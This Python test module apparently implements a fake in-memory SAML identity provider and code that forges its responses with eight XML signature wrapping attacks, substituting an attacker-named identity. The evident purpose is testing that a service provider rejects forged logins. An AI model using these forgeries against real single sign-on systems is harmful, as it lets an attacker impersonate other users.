"""A SAML provider in memory, and the forgeries that an attacker makes from one of its responses."""

from __future__ import annotations

import base64
import copy
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import parse_qsl, urlsplit

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from lxml import etree
from minisignxml.config import SigningConfig
from minisignxml.sign import sign
from signxml import CanonicalizationMethod, XMLSigner

P = "{urn:oasis:names:tc:SAML:2.0:protocol}"
A = "{urn:oasis:names:tc:SAML:2.0:assertion}"
D = "{http://www.w3.org/2000/09/xmldsig#}"


@dataclass
class Identity:
    """A key with its certificate."""

    key: rsa.RSAPrivateKey = field(default_factory=lambda: rsa.generate_private_key(65537, 2048))
    certificate: x509.Certificate = field(init=False)

    def __post_init__(self) -> None:
        name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "idp")])
        now = datetime.now(UTC)
        made = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(self.key.public_key())
        made = made.serial_number(1).not_valid_before(now - timedelta(days=1)).not_valid_after(now + timedelta(days=9))
        self.certificate = made.sign(self.key, hashes.SHA256())

    @property
    def der(self) -> str:
        return base64.b64encode(self.certificate.public_bytes(serialization.Encoding.DER)).decode()


HONEST, STRANGER = Identity(), Identity()


@dataclass
class FakeSaml:
    """A provider for ``serving`` (in ``oidc.py``). It answers for its metadata and its sign-on page. The attributes set
    what it asserts."""

    port: int = 0
    subject: str = "ann-at-idp"
    subject_format: str = "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"
    attributes: dict[str, list[str]] = field(
        default_factory=lambda: {"email": ["ann@acme.example"], "name": ["Ann Example"]}
    )
    signer: Identity = field(default_factory=lambda: HONEST)
    signs: str = "assertion"  # or "response", or "both"
    broken: dict[str, int] = field(default_factory=dict)
    change: dict[str, Any] = field(default_factory=dict)
    config: SigningConfig = field(default_factory=SigningConfig.default)
    remembers: int = 3600  # seconds since the user was authenticated; on request it does so again, unless it is lazy
    lazy: bool = False
    prefixes: tuple[str, ...] = ()  # of an InclusiveNamespaces list, as Okta and Shibboleth write it
    count: int = 0
    stops: Callable[[], None] = lambda: None

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def entity(self) -> str:
        return f"{self.address}/entity"

    def answers(self, method: str, path: str, form: dict[str, str], headers: Any) -> tuple[int, Any]:
        if path in self.broken:
            return self.broken[path], b""
        return (200, self.metadata().encode()) if path == "/metadata" else (200, b"<html>")

    def metadata(self) -> str:
        return (
            f'<EntityDescriptor xmlns="urn:oasis:names:tc:SAML:2.0:metadata" entityID="{self.entity}">'
            '<IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">'
            '<KeyDescriptor use="signing"><KeyInfo xmlns="http://www.w3.org/2000/09/xmldsig#"><X509Data>'
            f"<X509Certificate>{HONEST.der}</X509Certificate></X509Data></KeyInfo></KeyDescriptor>"
            '<SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect"'
            f' Location="{self.address}/sso"/></IDPSSODescriptor></EntityDescriptor>'
        )

    def logs_in(self, location: str) -> dict[str, str]:
        """The form that the browser posts after it was sent to ``location``."""
        tree, state = self.response(location)
        return form(self.signed(tree), state)

    def response(self, location: str) -> tuple[Any, str]:
        """The unsigned response, and the RelayState."""
        query = dict(parse_qsl(urlsplit(location).query))
        request = etree.fromstring(zlib.decompress(base64.b64decode(query["SAMLRequest"]), -15))
        self.count += 1
        facts = {
            "acs": request.get("AssertionConsumerServiceURL"),
            "audience": request.findtext(f"{A}Issuer"),
            "request": request.get("ID"),
            "issuer": self.entity,
            "id": f"_assertion{self.count}-{self.port}",
            "begins": _time(-30),
            "ends": _time(300),
            "instant": _time(0 if request.get("ForceAuthn") == "true" and not self.lazy else -self.remembers),
            "status": "urn:oasis:names:tc:SAML:2.0:status:Success",
            "method": "urn:oasis:names:tc:SAML:2.0:cm:bearer",
        }
        facts = {"destination": facts["acs"], "response_to": facts["request"], "confirmed": facts["ends"], **facts}
        return etree.fromstring(self._xml(facts | self.change)), query["RelayState"]

    def signed(self, tree: Any) -> bytes:
        if self.signs == "both":  # the assertion first, then the response around it
            return self._sign(etree.fromstring(self._sign(tree.find(f"{A}Assertion"))))
        return self._sign(tree if self.signs == "response" else tree.find(f"{A}Assertion"))

    def _sign(self, element: Any) -> bytes:
        who = self.signer
        if self.prefixes:
            signer = PrefixSigner(c14n_algorithm=CanonicalizationMethod.EXCLUSIVE_XML_CANONICALIZATION_1_0)
            signed = signer.sign(
                element,
                key=who.key,
                cert=[who.certificate],
                reference_uri=[f"#{element.get('ID')}"],
                id_attribute="ID",
                inclusive_ns_prefixes=list(self.prefixes),
            )
            parent = element.getparent()
            if parent is None:
                return etree.tostring(signed)
            parent.replace(element, signed)
            return etree.tostring(parent)
        return sign(element=element, private_key=who.key, certificate=who.certificate, config=self.config, index=1)

    def _xml(self, f: dict[str, Any]) -> str:
        typed = 'i:type="xs:string"' if self.prefixes else ""
        schemas = (
            ' xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:i="http://www.w3.org/2001/XMLSchema-instance"'
            if self.prefixes
            else ""
        )
        values = "".join(
            f'<a:Attribute Name="{name}">'
            + "".join(f"<a:AttributeValue {typed}>{v}</a:AttributeValue>" for v in each)
            + "</a:Attribute>"
            for name, each in self.attributes.items()
        )
        return (
            f'<p:Response xmlns:p="{P[1:-1]}" xmlns:a="{A[1:-1]}" ID="_response{self.count}" Version="2.0"'
            f' Destination="{f["destination"]}" InResponseTo="{f["response_to"]}"><a:Issuer>{f["issuer"]}</a:Issuer>'
            f'<p:Status><p:StatusCode Value="{f["status"]}"/></p:Status>'
            f'<a:Assertion{schemas} ID="{f["id"]}" Version="2.0"><a:Issuer>{f["issuer"]}</a:Issuer>'
            f'<a:Subject><a:NameID Format="{self.subject_format}">{self.subject}</a:NameID>'
            f'<a:SubjectConfirmation Method="{f["method"]}"><a:SubjectConfirmationData InResponseTo="{f["request"]}"'
            f' Recipient="{f["acs"]}" NotOnOrAfter="{f["confirmed"]}"/></a:SubjectConfirmation></a:Subject>'
            f'<a:Conditions NotBefore="{f["begins"]}" NotOnOrAfter="{f["ends"]}"><a:AudienceRestriction>'
            f"<a:Audience>{f['audience']}</a:Audience></a:AudienceRestriction></a:Conditions>"
            f'<a:AuthnStatement AuthnInstant="{f["instant"]}"/>'
            f"<a:AttributeStatement>{values}</a:AttributeStatement></a:Assertion></p:Response>"
        )


class PrefixSigner(XMLSigner):
    """Writes the prefixes of a reference in every case; signxml does so only if the signature encloses what it
    signs."""

    def _build_transforms_for_reference(self, *, transforms_node: Any, reference: Any, **more: Any) -> None:
        super()._build_transforms_for_reference(transforms_node=transforms_node, reference=reference, **more)
        name = "{http://www.w3.org/2001/10/xml-exc-c14n#}InclusiveNamespaces"
        etree.SubElement(transforms_node[-1], name, PrefixList=" ".join(reference.inclusive_ns_prefixes))


def form(document: bytes, state: str) -> dict[str, str]:
    return {"SAMLResponse": base64.b64encode(document).decode(), "RelayState": state}


def _time(seconds: float) -> str:
    return (datetime.now(UTC) + timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%SZ")


# -- signature wrapping: Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012); the numbers are
# those of SAML Raider


def wrapped(document: bytes, number: int, evil: str) -> bytes:
    """The signed document with an assertion about ``evil`` added where a careless reader looks for one. Attacks 1 and 2
    need a signed response, the others a signed assertion."""
    root = etree.fromstring(document)
    return etree.tostring((_of_response if number in (1, 2) else _of_assertion)(root, number, evil))


def _of_response(root: Any, number: int, evil: str) -> Any:
    original = copy.deepcopy(root)
    signature = root.find(f"{D}Signature")
    _turn(root, evil)
    root.set("ID", "_evil_response")
    if number == 1:  # the original response inside the signature
        signature.append(original)
    else:  # before it, detached
        signature.addprevious(original)
    original.remove(original.find(f"{D}Signature"))
    return root


def _of_assertion(root: Any, number: int, evil: str) -> Any:
    assertion = root.find(f"{A}Assertion")
    fake = copy.deepcopy(assertion)
    fake.remove(fake.find(f"{D}Signature"))
    fake.set("ID", "_evil_assertion")
    _turn(fake, evil)
    bare = copy.deepcopy(assertion)
    bare.remove(bare.find(f"{D}Signature"))
    signature = assertion.find(f"{D}Signature")
    match number:
        case 3:  # the evil one first, beside the original
            assertion.addprevious(fake)
        case 4:  # the original inside the evil one
            assertion.addprevious(fake)
            fake.append(assertion)
        case 5:  # the evil one has the signature, the original stands at the end without it
            fake.insert(1, signature)
            root.replace(assertion, fake)
            root.append(bare)
        case 6:  # the evil one has the signature, which has the original
            fake.insert(1, signature)
            signature.append(bare)
            root.replace(assertion, fake)
        case 7:  # the original in an extension, its id on both
            extensions = etree.Element(f"{P}Extensions")
            root.insert(1, extensions)
            fake.set("ID", assertion.get("ID"))
            root.replace(assertion, fake)
            extensions.append(assertion)
        case 8:  # the original in an object of the signature
            fake.insert(1, signature)
            thing = etree.SubElement(signature, f"{D}Object")
            thing.append(bare)
            root.replace(assertion, fake)
    return root


def _turn(element: Any, evil: str) -> None:
    for name_id in element.iter(f"{A}NameID"):
        name_id.text = evil
    for value in element.iter(f"{A}AttributeValue"):
        if "@" in (value.text or ""):
            value.text = evil
